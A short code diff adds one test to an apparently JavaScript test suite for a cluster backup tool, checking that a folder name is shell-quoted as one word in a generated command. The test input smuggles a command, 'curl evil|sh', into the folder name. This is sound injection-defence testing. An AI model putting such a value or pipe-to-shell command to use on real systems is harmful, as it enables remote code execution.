@@ -89,6 +89,11 @@ test('the commands are those for the cluster file', async () => {
   )
 })
 
+test('the name of a folder is one word of the commands, whatever it is', async () => {
+  const carts = await refusal('backup', allowing(['backup']), 'etcd/a; curl evil|sh #/cluster.yaml')
+  expect(carts?.fix).toContain("--environments 'etcd-a; curl evil|sh #' > 'etcd/a; curl evil|sh #/identities.yaml'")
+})
+
 test('whoever has no identity of this cluster is none of its callers', async () => {
   expect(await observeCaller(allowing([]), clusterSpec())).toEqual({ user: 'etcd-backup', roles: [] })
 })
